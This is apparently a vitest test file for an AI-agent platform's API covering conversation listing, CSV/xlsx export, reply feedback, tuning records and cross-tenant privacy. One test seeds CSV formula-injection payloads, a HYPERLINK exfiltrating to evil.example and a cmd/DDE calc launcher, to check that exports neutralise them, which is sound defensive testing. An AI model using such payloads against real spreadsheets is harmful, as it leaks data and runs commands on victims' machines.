import { and, eq } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chatMessages, chatSessions, chatTuning, ROBOT_GUEST_PASSWORD_HASH, robots, robotUsers, users } from "../../db/schema/index.ts";
import { createUser, type TestUser } from "../../test/factories.ts";
import { createTestApp, type TestApp } from "../../test/harness.ts";
import { type LlmServer, startLlmServer } from "../../test/llm-server.ts";
import { agentSteps } from "../agents/agents.fixtures.ts";

/**
 * Conversation details and tuning records: the agent's owner sees the sessions of the agent they
 * may read (their own, their robots', their organisation's), by range, with totals and feedback;
 * nobody else sees any of it.
 */
let t: TestApp;
let llm: LlmServer;
let alice: TestUser;
let bob: TestUser;
let carol: TestUser;
let agentId: string;
let otherAgent: string;
let aliceSession: string;
let bobSession: string;

const call = async (user: TestUser, method: "GET" | "POST" | "DELETE", url: string, payload?: unknown) => {
  const res = await t.app.inject({ method, url, payload: payload as never, headers: user.headers });
  // biome-ignore lint/suspicious/noExplicitAny: route answers of many shapes, checked by the assertions
  return { status: res.statusCode, ...(res.json() as { code: number; msg: string; data: any }) };
};
const A = (path: string) => `/aiagent_api/agent/${agentId}${path}`;

async function chat(user: TestUser, id: string, query: string, release = true) {
  const res = await t.app.inject({
    method: "POST",
    url: "/agent/agent_runtime/chat",
    payload: { token: user.token, schema_id: id, release, query },
  });
  return /"session_id":"([^"]+)"/.exec(res.body)?.[1] ?? "";
}

async function sessionAs(user: { id: string; tenantId: string }, daysAgo: number, question: string, answer: string, agent = agentId) {
  const at = new Date(Date.now() - daysAgo * 24 * 60 * 60 * 1000);
  const [s] = await t.platform.db
    .insert(chatSessions)
    .values({ userId: user.id, tenantId: user.tenantId, agentId: agent, title: question, titled: true, createdAt: at, updatedAt: at })
    .returning();
  await t.platform.db.insert(chatMessages).values([
    { sessionId: s.id, role: "user", content: question, createdAt: at },
    {
      sessionId: s.id,
      role: "bot",
      content: answer,
      status: "done",
      inputTokens: 40,
      outputTokens: 9,
      createdAt: new Date(at.getTime() + 1000),
    },
  ]);
  return s.id;
}

beforeAll(async () => {
  llm = await startLlmServer();
  t = await createTestApp({ MODEL_BASE_URL: llm.url, MODEL_NAME: "test-model", MODEL_API_KEY: "k" });
  alice = await createUser(t, { domain: "convacme", memberLevel: "PER_FLAGSHIP_MONTHLY" });
  bob = await createUser(t, { domain: "convacme", memberLevel: "PER_FLAGSHIP_MONTHLY" });
  carol = await createUser(t, { domain: "convother", memberLevel: "PER_FLAGSHIP_MONTHLY" });
  agentId = (await call(alice, "POST", "/aiagent_api/agent/quick/add", { agentName: "客服" })).data.agentId;
  otherAgent = (await call(alice, "POST", "/aiagent_api/agent/quick/add", { agentName: "另一个" })).data.agentId;
  aliceSession = await chat(alice, agentId, "退货流程是什么", false);
  // A colleague's session in the organisation's tenant, and one older than a month.
  bobSession = await sessionAs(bob, 10, "发票怎么开", "在订单页申请。");
  // Another tenant's user (a hirer, had the agent been listed on the public platform): private.
  await sessionAs(carol, 3, "别家租户的问题", "别家租户的回答");
  await sessionAs(bob, 40, "很久以前的问题", "很久以前的回答");
  await chat(alice, otherAgent, "别的智能体", false);
}, 60_000);
afterAll(async () => {
  await t.close();
  await llm.close();
});

describe("conversation details", () => {
  it("lists every session of the agent by range, with tokens and feedback; the asker gives feedback on replies only", async () => {
    const detail = await call(alice, "GET", A(`/conversations/${aliceSession}`));
    expect(detail.status).toBe(200);
    const [question, reply] = detail.data.list;
    expect(question.role).toBe("user");
    expect(reply.role).toBe("bot");
    const like = (message_id: string, user: TestUser, feedback: string | null = "like") =>
      call(user, "POST", "/agent/agent_runtime/message/feedback", { message_id, feedback });
    expect((await like(reply.id, alice)).status).toBe(200);
    expect((await like(question.id, alice)).msg).toBe("只能对回答进行反馈或调优");
    // Someone else's reply: not found.
    expect((await like(reply.id, bob)).status).toBe(404);

    const week = await call(alice, "GET", A("/conversations?days=7"));
    expect(week.data.list.map((s: { sessionId: string }) => s.sessionId)).toEqual([aliceSession]);
    expect(week.data.list[0]).toMatchObject({ messages: 2, likes: 1, dislikes: 0, release: false, username: alice.username });
    expect(week.data.list[0].inputTokens).toBeGreaterThan(0);
    const fortnight = await call(alice, "GET", A("/conversations?days=15"));
    expect(fortnight.data.total).toBe(2);
    const bobs = fortnight.data.list.find((s: { sessionId: string }) => s.sessionId === bobSession);
    expect(bobs).toMatchObject({ username: bob.username, inputTokens: 40, outputTokens: 9, messages: 2 });
    expect((await call(alice, "GET", A("/conversations?days=30"))).data.total).toBe(2);
    // Only the spec's ranges.
    expect((await call(alice, "GET", A("/conversations?days=8"))).status).toBe(400);
  });

  it("exports the range as CSV and xlsx", async () => {
    const csv = await t.app.inject({ method: "GET", url: A("/conversations/export?days=15&format=csv"), headers: alice.headers });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers["content-type"]).toContain("text/csv");
    expect(csv.body).toContain("会话ID");
    expect(csv.body).toContain("发票怎么开");
    expect(csv.body).not.toContain("很久以前");
    const xlsx = await t.app.inject({
      method: "GET",
      url: A("/conversations/export?days=30&format=xlsx"),
      headers: { ...alice.headers, lang: "en" },
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet.getRow(1).getCell(1).value).toBe("Session ID");
    expect(sheet.rowCount).toBe(5);
  });

  it("keeps the askers' text as text in a CSV: a cell that would read as a formula is quoted", async () => {
    const agent = (await call(alice, "POST", "/aiagent_api/agent/quick/add", { agentName: "导出" })).data.agentId as string;
    const formula = '=HYPERLINK("https://evil.example/?d="&A3,"点我")';
    await sessionAs(bob, 1, formula, "@SUM(1+1)*cmd|' /C calc'!A0", agent);
    const url = `/aiagent_api/agent/${agent}/conversations/export?days=7`;
    const csv = await t.app.inject({ method: "GET", url: `${url}&format=csv`, headers: alice.headers });
    expect(csv.body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A3,""点我"")"`);
    expect(csv.body).toContain("'@SUM(1+1)");
    expect(csv.body).not.toMatch(/(^|,)"?[=@]/m);
    // In xlsx a cell is typed text: it keeps the text exactly.
    const xlsx = await t.app.inject({ method: "GET", url: `${url}&format=xlsx`, headers: alice.headers });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells = book.worksheets[0].getColumn(6).values;
    expect(cells).toContain(formula);
  });

  it("is the owner's only: other users, other tenants and other agents' sessions are not found", async () => {
    for (const user of [bob, carol]) {
      expect((await call(user, "GET", A("/conversations?days=7"))).status).toBe(404);
      expect((await call(user, "GET", A(`/conversations/${aliceSession}`))).status).toBe(404);
      expect((await t.app.inject({ method: "GET", url: A("/conversations/export?days=7"), headers: user.headers })).statusCode).toBe(404);
      expect((await call(user, "GET", A("/tuning"))).status).toBe(404);
    }
    // A session of another agent through this agent's path.
    const [other] = (await call(alice, "GET", `/aiagent_api/agent/${otherAgent}/conversations?days=7`)).data.list;
    expect((await call(alice, "GET", A(`/conversations/${other.sessionId}`))).status).toBe(404);
    expect([401, 403]).toContain((await t.app.inject({ method: "GET", url: A("/conversations?days=7") })).statusCode);
  });
});

describe("tuning records", () => {
  it("keeps a note and a corrected answer per reply, and pushes it into a chosen knowledge base as a Q&A pair", async () => {
    const detail = (await call(alice, "GET", A(`/conversations/${bobSession}`))).data;
    const reply = detail.list.find((m: { role: string }) => m.role === "bot");
    const question = detail.list.find((m: { role: string }) => m.role === "user");
    expect((await call(alice, "POST", A("/tuning"), { messageId: reply.id })).msg).toBe("请填写备注或修正后的回答");
    expect((await call(alice, "POST", A("/tuning"), { messageId: question.id, note: "x" })).status).toBe(400);
    const first = await call(alice, "POST", A("/tuning"), { messageId: reply.id, note: "回答太简略" });
    expect(first.data).toMatchObject({ question: "发票怎么开", answer: "在订单页申请。", note: "回答太简略" });
    expect((await call(alice, "POST", A(`/tuning/${first.data.id}/knowledge`), { knowledgeId: "x" })).msg).toBe("请先填写修正后的回答");
    const corrected = "在“我的订单”中选择订单，点击“申请发票”，填写抬头和税号。";
    const saved = await call(alice, "POST", A("/tuning"), { messageId: reply.id, note: "回答太简略", correctedAnswer: corrected });
    expect(saved.data.id).toBe(first.data.id);
    expect((await call(alice, "GET", A(`/conversations/${bobSession}`))).data.list[1].tuningId).toBe(saved.data.id);
    // Bob cannot tune Alice's agent, even on his own session's reply.
    expect((await call(bob, "POST", A("/tuning"), { messageId: reply.id, note: "hi" })).status).toBe(404);
    // A reply of another agent cannot be tuned through this agent.
    const other = (await call(alice, "GET", `/aiagent_api/agent/${otherAgent}/conversations?days=7`)).data.list[0];
    const otherReply = (await call(alice, "GET", `/aiagent_api/agent/${otherAgent}/conversations/${other.sessionId}`)).data.list[1];
    expect((await call(alice, "POST", A("/tuning"), { messageId: otherReply.id, note: "x" })).status).toBe(404);

    const kb = (await call(alice, "POST", "/wendao_api/wendao/knowledge", { name: "售后问答" })).data;
    const bobKb = (await call(bob, "POST", "/wendao_api/wendao/knowledge", { name: "鲍勃的库" })).data;
    // Someone else's knowledge base is refused by the knowledge module's own check.
    expect((await call(alice, "POST", A(`/tuning/${saved.data.id}/knowledge`), { knowledgeId: bobKb.id })).status).toBeGreaterThanOrEqual(
      403,
    );
    const pushed = await call(alice, "POST", A(`/tuning/${saved.data.id}/knowledge`), { knowledgeId: kb.id });
    expect(pushed.data).toMatchObject({ knowledgeId: kb.id });
    expect(pushed.data.pushedAt).toBeTruthy();
    const segments = await call(alice, "GET", `/wendao_api/wendao/knowledge/${kb.id}/segments?qa=true`);
    expect(JSON.stringify(segments.data)).toContain("发票怎么开");
    expect(JSON.stringify(segments.data)).toContain("申请发票");

    expect((await call(alice, "GET", A("/tuning"))).data).toHaveLength(1);
    expect((await call(bob, "DELETE", A(`/tuning/${saved.data.id}`))).status).toBe(404);
    expect((await call(alice, "DELETE", A(`/tuning/${saved.data.id}`))).status).toBe(200);
    expect((await call(alice, "GET", A("/tuning"))).data).toHaveLength(0);
  });
});

describe("privacy: whose sessions the owner reads", () => {
  let admin: TestUser;
  beforeAll(async () => {
    admin = await createUser(t, { username: "admin" });
  });
  it("on the public platform: the owner's own and the owner's robots' conversations, never other users'", async () => {
    const dave = await createUser(t, { memberLevel: "PER_FLAGSHIP_MONTHLY" });
    const erin = await createUser(t, { memberLevel: "PER_FLAGSHIP_MONTHLY" });
    const daves = (await call(dave, "POST", "/aiagent_api/agent/quick/add", { agentName: "公开助手" })).data.agentId as string;
    const own = await sessionAs(dave, 1, "我自己的测试", "好的", daves);
    // A stranger of the public platform and another tenant's user: their conversations are theirs.
    const stranger = await sessionAs(erin, 1, "陌生人的隐私问题", "回答", daves);
    await sessionAs(carol, 1, "别的租户的隐私问题", "回答", daves);
    // Dave's robot: its guest's conversation, and the one it holds for Erin, who bound her account in it.
    const [robot] = await t.platform.db
      .insert(robots)
      .values({ tenantId: dave.tenantId, ownerId: dave.id, name: "客服群", type: "webhook", agentId: daves, secretsEnc: "-" })
      .returning();
    const [guest] = await t.platform.db
      .insert(users)
      .values({ tenantId: dave.tenantId, username: `robot_${robot.id.slice(0, 12)}`, passwordHash: ROBOT_GUEST_PASSWORD_HASH })
      .returning();
    const viaRobot = await sessionAs(guest, 1, "群里的问题", "群里的回答", daves);
    const bound = await sessionAs(erin, 1, "绑定后在群里问", "回答", daves);
    await t.platform.db.insert(robotUsers).values([
      { robotId: robot.id, externalUserId: "guest-1", userId: guest.id, sessionId: viaRobot, sessionUserId: guest.id },
      { robotId: robot.id, externalUserId: "erin-1", userId: erin.id, sessionId: bound, sessionUserId: erin.id },
    ]);
    const expected = [own, viaRobot, bound].sort();
    for (const reader of [dave, admin]) {
      const page = (await call(reader, "GET", `/aiagent_api/agent/${daves}/conversations?days=7`)).data;
      expect(page.list.map((s: { sessionId: string }) => s.sessionId).sort()).toEqual(expected);
      expect(page.total).toBe(3);
      expect((await call(reader, "GET", `/aiagent_api/agent/${daves}/conversations/${stranger}`)).status).toBe(404);
    }
    const csv = await t.app.inject({
      method: "GET",
      url: `/aiagent_api/agent/${daves}/conversations/export?days=7&format=csv`,
      headers: dave.headers,
    });
    expect(csv.body).toContain("群里的问题");
    expect(csv.body).not.toContain("隐私问题");
    // Nor can a private reply be tuned (which would copy it into a tuning record).
    const [reply] = await t.platform.db
      .select()
      .from(chatMessages)
      .where(and(eq(chatMessages.sessionId, stranger), eq(chatMessages.role, "bot")));
    expect((await call(dave, "POST", `/aiagent_api/agent/${daves}/tuning`, { messageId: reply.id, note: "x" })).status).toBe(404);
    // A record kept of it before this rule (written as it was then) stays hidden with its session.
    const [kept] = await t.platform.db
      .insert(chatTuning)
      .values({
        tenantId: dave.tenantId,
        ownerId: dave.id,
        agentId: daves,
        sessionId: stranger,
        messageId: reply.id,
        question: "陌生人的隐私问题",
        answer: "回答",
      })
      .returning();
    expect((await call(dave, "GET", `/aiagent_api/agent/${daves}/tuning`)).data).toEqual([]);
    expect((await call(dave, "DELETE", `/aiagent_api/agent/${daves}/tuning/${kept.id}`)).status).toBe(404);
  });

  it("in an organisation's tenant: its members' sessions, not another tenant's; members are told on the chat page", async () => {
    const list = (await call(alice, "GET", A("/conversations?days=7"))).data.list;
    expect(JSON.stringify(list)).not.toContain("别家租户");
    const steps = agentSteps(t);
    const info = async (user: TestUser, id: string) =>
      (await call(user, "GET", `/agent/agent_runtime/agent_info?id=${id}&release=true`)).data.ownerReadsConversations;
    const teams = await steps.listed(alice, admin, { name: "团队助手" });
    expect(await info(bob, teams)).toBe(true);
    expect(await info(alice, teams)).toBe(false);
    // A public agent's users are not told anything: their conversations stay theirs.
    const dave = await createUser(t, { memberLevel: "PER_FLAGSHIP_MONTHLY" });
    const erin = await createUser(t, { memberLevel: "PER_FLAGSHIP_MONTHLY" });
    const publicOne = await steps.listed(dave, admin, { name: "公开助手" });
    expect(await info(erin, publicOne)).toBe(false);
    expect(await info(bob, publicOne)).toBe(false);
  });
});
